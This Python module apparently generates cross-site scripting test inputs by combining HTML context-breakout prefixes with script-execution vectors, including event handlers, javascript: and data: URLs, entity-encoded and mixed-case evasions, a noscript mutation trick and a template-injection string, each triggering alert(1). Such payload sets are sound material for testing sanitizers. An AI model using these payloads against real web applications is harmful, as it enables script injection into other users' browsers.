"""Text that tries to run a script, put together from ways out and ways to run."""

from __future__ import annotations

from itertools import product

WAYS_OUT = (
    "", '">', "'>", '" ', "</dd></dl></section>", "</dfn>", "</style>", "</script>", "-->", "]]>",
    "</title></textarea></noscript>", "\x00", "<b>", "</a>", "<svg><style>", "<math><mi>",
)  # fmt: skip
WAYS_TO_RUN = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    'onmouseover="alert(1)" x="',
    "<b onmouseover=alert(1)>x</b>",
    '<p style="animation-name:x" onanimationstart="alert(1)">x</p>',
    "<video><source onerror=alert(1)></video>",
    "<object data=javascript:alert(1)></object>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "javascript:alert(1)",
    "jAvAsCrIpT&colon;alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
)
PAYLOADS = tuple(out + run for out, run in product(WAYS_OUT, WAYS_TO_RUN))
